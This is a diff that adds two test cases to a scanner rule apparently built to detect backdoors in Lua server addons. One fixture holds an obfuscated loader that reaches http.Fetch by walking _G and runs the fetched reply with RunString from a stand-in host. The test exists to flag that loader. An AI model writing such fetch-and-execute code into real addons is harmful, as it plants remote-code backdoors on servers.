@@ -383,4 +383,24 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a fetch reached by walking _G along the parts of a dotted name', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local fn = _G',
+        'for w in string.gmatch("http.Fetch", "[^.]+") do fn = fn[w] end',
+        'fn("https://x.invalid/p", RunString)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a library function reached the same way, printing a reply (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local fn = _G',
+        'for w in string.gmatch("http.Fetch", "[^.]+") do fn = fn[w] end',
+        'fn("https://x.invalid/version", function(b) print("latest: " .. b) end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
